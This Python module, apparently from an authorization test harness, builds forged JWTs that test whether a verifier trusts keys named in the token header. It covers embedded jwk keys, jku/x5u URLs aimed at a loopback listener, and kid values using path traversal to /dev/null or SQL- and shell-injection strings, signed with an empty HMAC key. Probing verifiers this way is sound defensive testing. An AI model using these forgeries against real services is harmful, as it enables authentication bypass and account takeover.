"""Header-key injection forgeries (RFC 8725 §3.10, RFC 7515 §4.1.2-§4.1.5): the real claims under
a header that names the verification key itself.

A verifier must take its keys from the authorization server it trusts, never from the token: an
embedded `jwk`, a `jku` / `x5u` URL (here: the harness's loopback listener, so a fetch is seen),
or a `kid` used as a file path or query (path traversal to an empty file, injection characters;
the token HMAC'd with the empty key such a lookup yields).
"""

from __future__ import annotations

import datetime
import hashlib
import hmac
from collections.abc import Mapping
from dataclasses import dataclass

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from joserfc import jws
from joserfc.jwk import ECKey, RSAKey
from joserfc.util import json_b64encode, urlsafe_b64decode, urlsafe_b64encode

from harness.probes.resource.forge import CompactJws, Forgery

JKU_KID = "mcp-auth-harness-jku"
KID_TRAVERSAL = "../../../../../../dev/null"
KID_INJECTIONS = ("x' OR '1'='1", "x|true", "x;true")
# header parameters that name a key: dropped from the real header before one is injected
KEY_PARAMS = frozenset({"kid", "jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256"})
CERT_DAYS = 1


@dataclass(frozen=True, slots=True, kw_only=True)
class KeyUrls:
    """Where the harness listener serves its JWKS (`jku`) and certificate (`x5u`)."""

    jku: str
    x5u: str


class HeaderKeyForger:
    """Fresh harness keys (RSA and EC P-256) and the documents a followed URL would get."""

    def __init__(self) -> None:
        self._rsa = RSAKey.generate_key(2048, parameters={"kid": JKU_KID, "use": "sig"})
        self._ec = ECKey.generate_key("P-256")
        self._cert_pem = _self_signed(self._rsa)

    def jwks(self) -> dict[str, object]:
        return {"keys": [self._rsa.as_dict(private=False)]}

    @property
    def certificate_pem(self) -> bytes:
        return self._cert_pem

    def forge(self, real: CompactJws, urls: KeyUrls) -> tuple[Forgery, ...]:
        base = {k: v for k, v in real.header.items() if k not in KEY_PARAMS}
        payload = urlsafe_b64decode(real.encoded_payload.encode())
        rsa_public = self._rsa.as_dict(private=False)
        ec_public = self._ec.as_dict(private=False)

        def signed(label: str, header: dict[str, object], key: RSAKey | ECKey) -> Forgery:
            alg = str(header["alg"])
            token = jws.serialize_compact(header, payload, key, algorithms=[alg])
            return Forgery(label=label, token=token)

        forged = [
            signed(
                "jwk: RS256, the harness key embedded",
                {**base, "alg": "RS256", "jwk": rsa_public},
                self._rsa,
            ),
            signed(
                "jwk: ES256, the harness key embedded",
                {**base, "alg": "ES256", "jwk": ec_public},
                self._ec,
            ),
            signed(
                f"jku: {urls.jku}",
                {**base, "alg": "RS256", "kid": JKU_KID, "jku": urls.jku},
                self._rsa,
            ),
            signed(f"x5u: {urls.x5u}", {**base, "alg": "RS256", "x5u": urls.x5u}, self._rsa),
            _empty_hmac(f"kid: {KID_TRAVERSAL} (HS256, empty key)", base, KID_TRAVERSAL, real),
        ]
        forged += [
            _empty_hmac(f"kid: {kid} (HS256, empty key)", base, kid, real) for kid in KID_INJECTIONS
        ]
        return tuple(forged)


def _empty_hmac(label: str, base: Mapping[str, object], kid: str, real: CompactJws) -> Forgery:
    """HS256 with an empty key: what a verifier gets reading an empty file (or no row) by `kid`.
    Computed directly: joserfc rightly refuses an empty oct key."""
    header = json_b64encode({**base, "alg": "HS256", "kid": kid}).decode()
    signing_input = f"{header}.{real.encoded_payload}".encode()
    mac = hmac.new(b"", signing_input, hashlib.sha256).digest()
    return Forgery(label=label, token=f"{signing_input.decode()}.{urlsafe_b64encode(mac).decode()}")


def _self_signed(key: RSAKey) -> bytes:
    """A self-signed certificate for the harness RSA key, in PEM (RFC 7515 §4.1.5)."""
    private = serialization.load_pem_private_key(key.as_pem(private=True), password=None)
    if not isinstance(private, rsa.RSAPrivateKey):  # pragma: no cover - generated as RSA
        raise TypeError("the harness key is not RSA")
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "mcp-auth-harness forger")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(private.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(minutes=5))
        .not_valid_after(now + datetime.timedelta(days=CERT_DAYS))
        .sign(private, hashes.SHA256())
    )
    return cert.public_bytes(serialization.Encoding.PEM)
